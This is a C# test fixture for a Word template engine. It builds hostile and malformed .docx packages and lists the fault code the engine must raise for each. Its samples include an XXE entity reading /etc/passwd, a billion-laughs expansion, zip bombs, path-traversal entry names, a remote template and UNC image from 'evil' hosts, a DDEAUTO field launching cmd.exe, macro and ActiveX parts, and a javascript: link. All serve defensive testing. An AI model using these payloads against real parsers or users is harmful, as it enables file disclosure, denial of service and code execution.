using System.Text;
using WordTemplates.Tests.Corpus;

namespace WordTemplates.Tests.Packaging.Hostile;

/// <summary>Hostile and broken files with what the engine must say: codes of faults, or of notes after "note".</summary>
internal static class HostileFiles
{
    private const string Main = WordFile.Main;
    private const string Word = "application/vnd.openxmlformats-officedocument.wordprocessingml.";

    public static readonly (string Name, string Verdict, Func<byte[]> Make)[] All =
    [
        // DTDs and entities
        ("DTD in the main part", "WT010", () => Spoilt.Part(Main, Spoilt.Doctype)),
        ("DTD in the content types", "WT010", () => Spoilt.Part("[Content_Types].xml", Spoilt.Doctype)),
        ("DTD in relationships", "WT010", () => Spoilt.Part("_rels/.rels", Spoilt.Doctype)),
        ("DTD in document properties", "WT010", () => Spoilt.Part("docProps/core.xml", Spoilt.Doctype)),
        ("DTD in custom data", "WT010", () => Spoilt.Part("customXml/item1.xml", Spoilt.Doctype)),
        ("DTD in XML that is not called so", "WT010", () => Spoilt.Document(d => d.Relate("x", "data.bin", "<?xml version=\"1.0\"?><!DOCTYPE a><a/>", "application/vnd.x+xml"))),
        ("DTD in a part in UTF-16", "WT010", () => Spoilt.Document(d => d.File.Add("word/x.xml", [0xFF, 0xFE, .. Encoding.Unicode.GetBytes("<!-- x --><!DOCTYPE a><a/>")]))),
        ("billion laughs", "WT010", () => Spoilt.Part(Main, xml => Spoilt.Doctype(xml).Replace("<!ENTITY a SYSTEM \"file:///etc/passwd\">", "<!ENTITY a \"ha\">" + string.Concat(Enumerable.Range('b', 9).Select(c => $"<!ENTITY {(char)c} \"{string.Concat(Enumerable.Repeat($"&{(char)(c - 1)};", 10))}\">"))))),

        // Bombs and lies of the container
        ("a gigabyte of text", "WT006", () => Spoilt.Raw(RawEntry.Bomb("word/x.xml", "a", 1024))),
        ("a gigabyte of empty paragraphs", "WT006", () => Spoilt.Raw(RawEntry.Bomb("word/x.xml", "<w:p/>", 1024))),
        ("a gigabyte of blanks", "WT006", () => Spoilt.Raw(RawEntry.Bomb("word/x.xml", " ", 1024))),
        ("a gigabyte of picture", "WT006", () => Spoilt.Raw(RawEntry.Bomb("word/media/x.png", "a", 1024))),
        ("relationships of a gigabyte", "WT006", () => Spoilt.Raw(RawEntry.Bomb("word/_rels/x.xml.rels", " ", 1024))),
        ("content types of a gigabyte", "WT006", () => RawZipWriter.Write([RawEntry.Bomb("[Content_Types].xml", " ", 1024)])),
        ("thirty megabytes of XML", "WT006", () => Spoilt.Raw(RawEntry.Bomb("word/x.xml", " ", 30))),
        ("a part pressed a thousand times", "WT006", () => Spoilt.Raw(RawEntry.Bomb("word/x.xml", " ", 10))),
        ("a gigabyte that says it is a thousand bytes", "WT005", () => Spoilt.Raw(RawEntry.Bomb("word/x.xml", "a", 1024) with { Size = 1000 })),
        ("a checksum that lies", "WT005", () => Spoilt.Raw(RawEntry.Of("word/x.xml", "<x/>") with { Crc = 1 })),
        ("five hundred entries in the same bytes", "WT005", () => Spoilt.Raw([RawEntry.Bomb("word/x.xml", "a", 20), .. Enumerable.Range(0, 500).Select(i => new RawEntry($"x{i}", [], 20 << 20) { Offset = 0 })])),
        ("sixty-five thousand entries", "WT004", () => RawZipWriter.Write([.. Enumerable.Range(0, 65_535).Select(i => new RawEntry($"{i}", [3, 0], 0))])),
        ("three hundred thousand entries", "WT004", () => RawZipWriter.Write([.. Enumerable.Range(0, 300_000).Select(i => new RawEntry($"{i}", [], 0) { Offset = 0 })], ushort.MaxValue)),
        ("a bomb inside the workbook of a chart", "WT006", () => Spoilt.Document(d =>
        {
            d.File.Default("xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet").Add("word/embeddings/a.xlsx", RawZipWriter.Write([RawEntry.Bomb("xl/x.xml", "a", 1024)]));
            d.File.Relate("word/charts/chart1.xml", "package", "../embeddings/a.xlsx");
            d.Relate("chart", "charts/chart1.xml", "<c/>", "application/vnd.openxmlformats-officedocument.drawingml.chart+xml");
        })),

        // Names
        ("a name that climbs out", "WT007", () => Spoilt.With(("../../../../tmp/x", "x"))),
        ("an absolute name", "WT007", () => Spoilt.With(("/abs.xml", "<x/>"))),
        ("a name with a drive", "WT007", () => Spoilt.With(("C:\\evil.txt", "x"))),
        ("backslashes", "WT007", () => Spoilt.With(("word\\x.xml", "<x/>"))),
        ("an empty piece in a name", "WT007", () => Spoilt.With(("word//x.xml", "<x/>"))),
        ("the same name twice", "WT008", () => Spoilt.With((Main, "<x/>"))),
        ("the same name in other letters", "WT008", () => Spoilt.With(("WORD/Document.XML", "<x/>"))),

        // Not Word files at all
        ("encrypted", "WT002", () => [0xD0, 0xCF, 0x11, 0xE0, .. Encoding.Unicode.GetBytes("EncryptedPackage")]),
        ("an old .doc", "WT002", () => [0xD0, 0xCF, 0x11, 0xE0, .. Encoding.Unicode.GetBytes("WordDocument")]),
        ("empty", "WT003", () => []),
        ("Word's lock file", "WT003", () => [5, .. "admin"u8, .. new byte[156]]),
        ("plain text", "WT003", () => Encoding.UTF8.GetBytes("同志们：")),
        ("a web page", "WT003", () => Encoding.UTF8.GetBytes("\r\n<html><body>x</body></html>")),
        ("truncated", "WT003", () => Spoilt.Document(_ => { })[..^40]),
        ("a workbook", "WT014", () => WordFile.Zip([("[Content_Types].xml", Encoding.UTF8.GetBytes("<Types xmlns=\"x\"><Override PartName=\"/xl/workbook.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml\"/></Types>")), ("_rels/.rels", Encoding.UTF8.GetBytes("<Relationships><Relationship Id=\"a\" Type=\"http://x/officeDocument\" Target=\"xl/workbook.xml\"/></Relationships>")), ("xl/workbook.xml", Encoding.UTF8.GetBytes("<workbook/>"))])),
        ("an OpenDocument text", "WT014", () => WordFile.Zip([("mimetype", Encoding.UTF8.GetBytes("application/vnd.oasis.opendocument.text"))])),

        // Depth and width
        ("two hundred levels", "", () => Spoilt.Document(d => d.Add(Nested(200)))),
        ("twenty thousand content controls in each other", "WT012", () => Spoilt.Document(d => d.Add(Nested(40_000)))),
        ("a million levels", "WT012", () => Spoilt.Document(d => d.File.Add("word/x.xml", string.Concat(Enumerable.Repeat("<a>", 1_000_000))))),
        ("a hundred thousand attributes", "WT017", () => Spoilt.Document(d => d.Add("<w:p " + string.Join(' ', Enumerable.Range(0, 100_000).Select(i => $"a{i}=\"x\"")) + "/>"))),
        ("namespaces on every level", "WT017", () => Spoilt.Document(d => d.Add(Wrapped(100, i => "<w:sdt " + string.Join(' ', Enumerable.Range(0, 100).Select(j => $"xmlns:n{i}x{j}=\"u\"")) + ">")))),
        ("an attribute of ten megabytes", "WT017", () => Spoilt.Document(d => d.Add($"<w:p w:rsidR=\"{string.Concat(Enumerable.Range(0, 1_300_000).Select(i => (i * 7919 % 9_999_999).ToString("D8", System.Globalization.CultureInfo.InvariantCulture)))}\"/>"))),
        ("a million bookmarks", "WT013", () => Spoilt.Document(d => d.Add(string.Concat(Enumerable.Range(0, 1_000_000).Select(i => $"<a{i % 997}/>"))))),

        // Parts that do not fit
        ("no content types", "WT014", () => Spoilt.Without("[Content_Types].xml")),
        ("no relationships of the package", "WT014", () => Spoilt.Without("_rels/.rels")),
        ("no main part", "WT014", () => Spoilt.Without(Main)),
        ("a main part of another type", "WT014", () => Spoilt.Part("[Content_Types].xml", xml => xml.Replace(Word + "document.main+xml", "application/xml", StringComparison.Ordinal))),
        ("a strict document", "", () => WordFile.Zip([("[Content_Types].xml", Encoding.UTF8.GetBytes($"<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/><Override PartName=\"/word/document.xml\" ContentType=\"{Word}document.main+xml\"/></Types>")), ("_rels/.rels", Encoding.UTF8.GetBytes("<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" Type=\"http://purl.oclc.org/ooxml/officeDocument/relationships/officeDocument\" Target=\"word/document.xml\"/></Relationships>")), (Main, Encoding.UTF8.GetBytes("<w:document xmlns:w=\"http://purl.oclc.org/ooxml/wordprocessingml/main\" w:conformance=\"strict\"><w:body><w:p><w:r><w:t>{{县名}}</w:t></w:r></w:p></w:body></w:document>"))])),
        ("broken XML", "WT011", () => Spoilt.Part("docProps/app.xml", xml => xml.Replace("</Properties>", "", StringComparison.Ordinal))),
        ("malformed targets of relationships", "", () => Spoilt.Document(d =>
        {
            d.File.Relate(Main, "hyperlink", "http://[bad uri/ %zz:|", external: true);
            d.File.Relate(Main, "hyperlink", "mailto:a@@b c", external: true);
            d.File.Relate(Main, "image", "../NULL");
            d.File.Relate(Main, "image", "../../../x?y#z");
        })),

        // Active and outside content
        ("a remote template", "note WT511", () => Spoilt.Document(d => d.AddSetting($"<w:attachedTemplate r:id=\"{d.File.Relate("word/settings.xml", "attachedTemplate", "http://evil.example/x.dotm", external: true)}\"/>"))),
        ("a picture from a server", "WT020", () => Spoilt.Document(d => d.File.Relate(Main, "image", @"\\evil\share\x.png", external: true))),
        ("a page to import", "WT022", () => Spoilt.Document(d => d.Add($"<w:altChunk r:id=\"{d.File.Default("html", "text/html").Add("word/x.html", "<html/>").Relate(Main, "aFChunk", "x.html")}\"/>"))),
        ("a field that runs a program", "WT024", () => Spoilt.Document(d => d.Add(d.P(StoryBlocks.Field(" DDEAUTO c:\\\\windows\\\\cmd.exe \"/k calc\" ", d.R("x")))))),
        ("an OLE object", "WT023", () => Spoilt.Document(d => d.File.Default("bin", "application/vnd.openxmlformats-officedocument.oleObject").Add("word/embeddings/o.bin", "x").Relate(Main, "oleObject", "embeddings/o.bin"))),
        ("a control", "WT023 WT023", () => Spoilt.Document(d =>
        {
            d.File.Add("word/activeX/activeX1.bin", "x", "application/vnd.ms-office.activeX").Relate("word/activeX/activeX1.xml", "http://schemas.microsoft.com/office/2006/relationships/activeXControlBinary", "activeX1.bin");
            d.Relate("control", "activeX/activeX1.xml", "<a/>", "application/vnd.ms-office.activeX+xml");
        })),
        ("macros under the name of a .docx", "WT015 WT015", () => WordFile.Zip([("[Content_Types].xml", Encoding.UTF8.GetBytes("<Types xmlns=\"x\"><Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/><Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/></Types>")), (Main, Encoding.UTF8.GetBytes("<x/>")), ("word/vbaProject.bin", [1, 2])])),
        ("a link that runs a script", "note WT512", () => Spoilt.Document(d => d.Add(d.P($"<w:hyperlink r:id=\"{d.File.Relate(Main, "hyperlink", "javascript:alert(1)", external: true)}\">{d.R("点我")}</w:hyperlink>")))),
    ];

    private static string Nested(int levels) => Wrapped(levels / 2, _ => "<w:sdt><w:sdtContent>", "</w:sdtContent></w:sdt>");

    private static string Wrapped(int levels, Func<int, string> open, string close = "</w:sdt>") =>
        string.Concat(Enumerable.Range(0, levels).Select(open)) + "<w:p/>" + string.Concat(Enumerable.Repeat(close, levels));
}
